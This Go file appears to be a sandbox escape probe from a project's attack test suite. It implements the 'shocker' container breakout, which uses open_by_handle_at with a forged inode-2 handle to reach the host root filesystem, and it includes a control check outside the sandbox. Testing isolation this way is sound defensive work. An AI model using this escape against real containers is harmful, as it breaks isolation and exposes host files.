//go:build linux

// Probe open_by_handle_at is the "shocker" attack: open_by_handle_at(2)
// with a handle for inode 2 (the root directory of ext4/xfs host
// filesystems) relative to a bind-mounted host directory, which bypasses
// the mount namespace and chroot.
package main

import (
	"encoding/binary"
	"fmt"
	"strings"

	"golang.org/x/sys/unix"

	"github.com/agentkernel/agentkernel/test/attack/probes/internal/probe"
)

const name = "open_by_handle_at"

func main() { probe.Run(name, attack, control) }

// try returns what opened, the errors, and how many paths gave a handle.
func try() (string, []string, int) {
	var errs []string
	handles := 0
	for _, p := range []string{"/workspace", "/etc/hostname", "/etc/resolv.conf", "/", "/tmp"} {
		h, mnt, err := unix.NameToHandleAt(unix.AT_FDCWD, p, 0)
		if err != nil {
			errs = append(errs, "name_to_handle_at("+p+"): "+err.Error())
			continue
		}
		handles++
		dirfd, err := unix.Open(p, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		// The genuine handle first, then the shocker handle: ino 2, gen 0.
		fd, err := unix.OpenByHandleAt(dirfd, h, unix.O_RDONLY)
		if err == nil {
			unix.Close(fd)
			unix.Close(dirfd)
			return fmt.Sprintf("open_by_handle_at(%s, mount %d) succeeded", p, mnt), nil, handles
		}
		errs = append(errs, "open_by_handle_at("+p+"): "+err.Error())
		raw := make([]byte, 8)
		binary.LittleEndian.PutUint32(raw, 2)
		fd, err = unix.OpenByHandleAt(dirfd, unix.NewFileHandle(1 /* FILEID_INO32_GEN */, raw), unix.O_RDONLY|unix.O_DIRECTORY)
		unix.Close(dirfd)
		if err == nil {
			unix.Close(fd)
			return "shocker handle (ino 2) opened via " + p, nil, handles
		}
	}
	return "", errs, handles
}

func attack() {
	got, errs, _ := try()
	if got != "" {
		report("allowed", got)
	}
	report("blocked", strings.Join(errs, "; "))
}

// control: outside a sandbox the same handles open (read-only).
func control() {
	got, errs, handles := try()
	switch {
	case got != "":
		report(probe.Reachable, got+" outside a sandbox")
	case handles == 0:
		report(probe.NotApplicable, "no filesystem here gives file handles: "+strings.Join(errs, "; "))
	case !probe.Privileged() && probe.RefusedText(opens(errs), false):
		report(probe.NotApplicable, "open_by_handle_at needs CAP_DAC_READ_SEARCH in the initial user namespace, which this user lacks with or without a sandbox: "+strings.Join(errs, "; "))
	}
	report(probe.Unreachable, strings.Join(errs, "; "))
}

// opens is the open_by_handle_at failures among errs (not those of
// name_to_handle_at, which any user may call).
func opens(errs []string) []string {
	var out []string
	for _, e := range errs {
		if strings.HasPrefix(e, "open_by_handle_at(") {
			out = append(out, e)
		}
	}
	return out
}

func report(result, detail string) { probe.Report(name, result, detail) }
